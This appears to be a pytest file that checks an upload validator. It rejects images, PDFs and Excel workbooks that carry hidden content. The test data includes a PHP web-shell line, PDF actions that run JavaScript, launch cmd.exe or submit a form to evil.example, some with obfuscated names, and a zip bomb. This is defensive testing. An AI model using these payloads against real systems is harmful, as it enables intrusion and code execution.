"""What a source document holds besides what it seems is found, however it is hidden."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, NameObject, NumberObject
from tests.documents import pdf, picture, raw_pdf, workbook, workbook_with, written

from firedamp.science.errors import InputError
from firedamp.server.reports.harmless import PDF, XLSX, what_it_is


def rule_of(content: bytes) -> str:
    with pytest.raises(InputError) as found:
        what_it_is("x", content)
    return found.value.problems[0].rule


def test_it_works() -> None:
    kinds = [what_it_is("x", each)[0] for each in (pdf(), raw_pdf(), picture(), picture("JPEG"), workbook())]
    assert kinds == [PDF, PDF, "image/png", "image/jpeg", XLSX]


def test_a_pdf_of_firedamp_s_own_is_one() -> None:
    """As Typst draws it: object streams, fonts, links, tags."""
    import typst

    drawn = typst.compile(b'= Title\n#link("https://example.org")[x] #link(<a>)[y]\n#pagebreak()\n= B <a>\n')
    assert what_it_is("x", bytes(drawn))[0] == PDF


def huge_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script>",
        b"\x89PNG\r\n\x1a\nMZ\x90\x00",
        b"\xff\xd8\xff<?php system($_GET[0]); ?>",
        picture() + b"<html>",
        picture("JPEG") + b"MZ\x90\x00",
        picture()[:-20],
        huge_png(),
    ],
)
def test_a_picture_is_decoded(content: bytes) -> None:
    assert rule_of(content) == "picture_unsafe"


@pytest.mark.parametrize(
    ("catalog", "objects"),
    [
        (b"/OpenAction 4 0 R", [b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"]),
        (b"/OpenAction<</S/L#61unch/F(cmd.exe)>>", []),
        (b"/OpenAction<</S/URI/URI(http://evil.example)>>", []),
        (b"/AA<</WC 4 0 R>>", [b"<<>>"]),
        (b"/Names<</EmbeddedFiles 4 0 R>>", [b"<<>>"]),
        (b"/AcroForm<</XFA 4 0 R/Fields[]>>", [b"(x)"]),
        (b"", [b"<</Type/Action/S/SubmitForm/F(http://evil.example)>>"]),
        (b"", [b"<</Type/Annot/Subtype/RichMedia>>"]),
        (b"", [b"[<</A<</S/JavaScript/JS(x)>>>>]"]),
        (b"", [b"<</Type/Filespec/EF<<>>>>"]),
    ],
)
def test_a_pdf_runs_opens_and_carries_nothing(catalog: bytes, objects: list[bytes]) -> None:
    assert rule_of(raw_pdf(catalog, *objects)) == "pdf_unsafe"


@pytest.mark.parametrize("content", [b"%PDF-\nMZ\x90\x00\n%%EOF", b"%PDF-1.7\nMZ\x90\x00\n%%EOF", pdf()[:-30]])
def test_what_only_begins_and_ends_as_a_pdf_is_none(content: bytes) -> None:
    assert rule_of(content) == "pdf_unsafe"


def with_opening_in_a_compressed_stream(action: bytes) -> bytes:
    packed = zlib.compress(b"4 0 " + action)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(packed), packed)
    body, places = b"%PDF-1.7\n", {}
    for number, part in (
        (1, b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"), (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"), (5, stream),
    ):  # fmt: skip
        places[number] = len(body)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    rows = [(0, 0, 65535), (1, places[1], 0), (1, places[2], 0), (1, places[3], 0), (2, 5, 0), (1, places[5], 0)]
    rows.append((1, len(body), 0))
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    head = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(table)
    return body + b"6 0 obj\n%bstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, len(body))


def test_a_script_in_a_compressed_stream_of_objects_is_found() -> None:
    content = with_opening_in_a_compressed_stream(b"<</S/JavaScript/JS(app.alert\\(1\\))>>")
    assert b"JavaScript" not in content
    assert rule_of(content) == "pdf_unsafe"
    assert what_it_is("x", with_opening_in_a_compressed_stream(b"<</S/GoTo/D[3 0 R/Fit]>>"))[0] == PDF


def test_an_embedded_file_is_found() -> None:
    writer = PdfWriter()
    writer.add_blank_page(9, 9)
    writer.add_attachment("evil.exe", b"MZ")
    assert rule_of(written(writer)) == "pdf_unsafe"


def test_an_ordinary_stream_may_say_anything() -> None:
    writer = PdfWriter()
    page = writer.add_blank_page(9, 9)
    stream = DecodedStreamObject()
    stream.set_data(b"BT (the word JS) Tj ET")
    page[NameObject("/Contents")] = writer._add_object(stream)
    page[NameObject("/Rotate")] = NumberObject(0)
    assert what_it_is("x", written(writer))[0] == PDF


TYPES = "[Content_Types].xml"
MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


@pytest.mark.parametrize(
    "content",
    [
        workbook_with("xl/vbaProject.bin"),
        workbook_with("evil.exe", b"MZ"),
        workbook_with("xl/worksheets/evil.exe", b"MZ"),
        workbook_with("xl/embeddings/oleObject1.bin"),
        workbook_with("xl/activeX/activeX1.xml"),
        workbook_with("xl/externalLinks/externalLink1.xml"),
        workbook_with("../xl/styles.xml"),
        workbook_with(TYPES, said=(MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        workbook_with("xl/_rels/workbook.xml.rels", said=("relationships/theme", "relationships/oleObject")),
        workbook_with("xl/_rels/workbook.xml.rels", said=('Target="theme', 'TargetMode="External" Target="theme')),
    ],
)  # fmt: skip
def test_a_workbook_holds_tables_alone(content: bytes) -> None:
    assert rule_of(content) in ("workbook_unsafe", "file_damaged")


def packed(part: str, content: bytes) -> bytes:
    """The workbook with a part in place of its own, compressed as hard as can be."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            new.writestr(each, content if each == part else old.read(each))
    return target.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def test_a_small_workbook_that_unpacks_to_much_is_refused() -> None:
    bomb = packed(SHEET, b"<worksheet>" + b" " * 50_000_000 + b"</worksheet>")
    assert len(bomb) < 100_000
    assert rule_of(bomb) == "file_unpacks_too_large"


@pytest.mark.parametrize("part", [SHEET, "xl/sharedStrings.xml", "xl/styles.xml"])
@pytest.mark.parametrize("content", [b"<worksheet>" + b" " * 1_000_000, b"<!DOCTYPE x><x/>", b"MZ\x90\x00"])
def test_every_part_of_a_workbook_is_xml_to_its_end(part: str, content: bytes) -> None:
    assert rule_of(packed(part, content)) in ("workbook_unsafe", "file_damaged")


def test_the_workbooks_of_the_data_packages_are_such() -> None:
    """Made by the people who publish them, with Excel and otherwise."""
    found = sorted(Path(__file__).parents[3].glob("data/**/*.xlsx"))[:5]
    assert {what_it_is(each.name, each.read_bytes())[0] for each in found} <= {XLSX}
